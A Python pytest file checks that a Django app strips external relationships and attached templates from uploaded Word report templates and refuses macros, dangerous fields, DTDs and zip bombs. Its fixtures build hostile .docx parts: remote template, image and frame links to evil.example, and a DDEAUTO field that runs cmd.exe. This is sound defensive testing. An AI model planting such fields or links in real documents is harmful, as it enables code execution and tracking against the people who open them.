"""A county's report template is made safe before it is kept and before a report is built on it (F8):
no external relationship (Word fetches an attached template, a linked picture or frame from wherever they
point when a document opens) and no attached template reach the stored template or the report the
inspectors download; macros, fields that fetch or run something, and hostile files are refused with a
message saying why."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from dudao.reports.document import build_template
from dudao.reports.models import ReportTemplate
from tests.personas import YEAR, client_for
from tests.rectification.conftest import STANDARD, Rect

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def url(name: str, code: str = "139901") -> str:
    return reverse(f"reports:{name}", args=[code, YEAR, STANDARD])


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


def add_rel(rels: bytes, rel_id: str, kind: str, target: str) -> bytes:
    rel = f'<Relationship Id="{rel_id}" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def hostile_template() -> bytes:
    """The shipped template with what a document from elsewhere may carry: an attached template on a
    server, a hyperlink to a share (its text must stay), a linked picture and a frame that open fetches."""
    parts = parts_of(build_template())
    parts["word/_rels/settings.xml.rels"] = add_rel(
        f'<Relationships xmlns="{PKG}"></Relationships>'.encode(),
        "rIdT",
        "attachedTemplate",
        "http://evil.example/t.dotm",
    )
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>'
    )
    rels = parts["word/_rels/document.xml.rels"]
    rels = add_rel(rels, "rIdH", "hyperlink", "file://evil.example/share/doc")
    rels = add_rel(rels, "rIdI", "image", "http://evil.example/pixel.png")
    parts["word/_rels/document.xml.rels"] = add_rel(rels, "rIdF", "frame", "http://evil.example/frame.html")
    link = '<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>本县督导室网页</w:t></w:r></w:hyperlink></w:p>'
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", link.encode() + b"<w:sectPr", 1)
    return zipped(parts)


def externals(data: bytes) -> list[str]:
    """What in a .docx points outside it: external relationships, attached templates."""
    found = []
    for name, part in parts_of(data).items():
        text = part.decode("utf-8", "replace")
        if name.endswith(".rels"):
            found += [f"{name}: {m}" for m in re.findall(r"<Relationship [^>]*TargetMode=\"External\"[^>]*>", text)]
            found += [f"{name}: {m}" for m in re.findall(r"<Relationship [^>]*/attachedTemplate\"[^>]*>", text)
                      if "External" not in m]  # fmt: skip
        else:
            found += [f"{name}: attachedTemplate" for _ in re.findall(r"<w:attachedTemplate\b", text)]
    return found


def upload(client: Client, data: bytes, name: str = "本县模板.docx") -> object:
    return client.post(url("template"), {"template": SimpleUploadedFile(name, data)}, follow=True)


def test_the_stored_template_and_the_report_hold_nothing_external(stored: Rect, settings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    hostile = hostile_template()
    assert len(externals(hostile)) == 5  # four external relationships and the attached template
    supervisor = client_for(stored.world.county_supervisor)
    response = upload(supervisor, hostile)
    assert "已使用新的报告模板" in response.text  # type: ignore[attr-defined]
    kept = ReportTemplate.objects.get()
    saved = kept.file.read()
    assert externals(saved) == []
    assert kept.size == len(saved)
    assert "本县督导室网页" in parts_of(saved)["word/document.xml"].decode()  # the link's text stays
    report = client_for(stored.world.city_inspector).get(url("report")).content  # type: ignore[attr-defined]
    assert externals(report) == [] and report.startswith(b"PK")
    if shutil.which("soffice"):  # the real client opens the cleaned template
        (tmp_path / "t.docx").write_bytes(saved)
        subprocess.run(
            ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "pdf",
             "--outdir", str(tmp_path), str(tmp_path / "t.docx")],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
        assert (tmp_path / "t.pdf").stat().st_size > 1000


def test_a_template_stored_before_is_cleaned_for_the_report(stored: Rect, settings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    old = ReportTemplate(county=stored.world.county, original_name="旧模板.docx", size=1, content_type="x", sha256="")
    old.file.save("old.docx", ContentFile(hostile_template()), save=True)
    report = client_for(stored.world.province_inspector).get(url("report")).content  # type: ignore[attr-defined]
    assert report.startswith(b"PK") and externals(report) == []


def with_part(name: str, data: bytes) -> bytes:
    parts = parts_of(build_template())
    parts[name] = data
    return zipped(parts)


def with_field(instruction: str) -> bytes:
    parts = parts_of(build_template())
    field = (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
             f"{instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")  # fmt: skip
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"</w:body>", field.encode() + b"</w:body>")
    return zipped(parts)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (lambda: with_part("word/vbaProject.bin", b"\x00" * 64), "模板含有宏"),
        (lambda: with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"'), "域代码"),
        (lambda: with_field('INCLUDEPICTURE "http://evil.example/p.png" \\\\d'), "域代码"),
        (lambda: with_part("word/document.xml", b'<!DOCTYPE x [<!ENTITY a "a">]><w:document/>'), "DTD"),
        (lambda: b"PK\x03\x04 not a zip", "不是有效的 Word 文档"),
    ],
)
def test_what_cannot_be_made_safe_is_refused_saying_why(stored: Rect, settings, tmp_path: Path, data, said) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    response = upload(client_for(stored.world.county_supervisor), data())
    assert said in response.text  # type: ignore[attr-defined]
    assert not ReportTemplate.objects.exists()


def test_a_hostile_word_file_is_refused(stored: Rect, settings, tmp_path: Path, hostile_files: dict[str, Path]) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    client = client_for(stored.world.county_supervisor)
    for name, said in (("docx_laughs", "DTD"), ("docx_deep", "嵌套超过"), ("docx_zeros", "解压后超过")):
        response = upload(client, hostile_files[name].read_bytes())
        assert said in response.text, name  # type: ignore[attr-defined]
    assert not ReportTemplate.objects.exists()
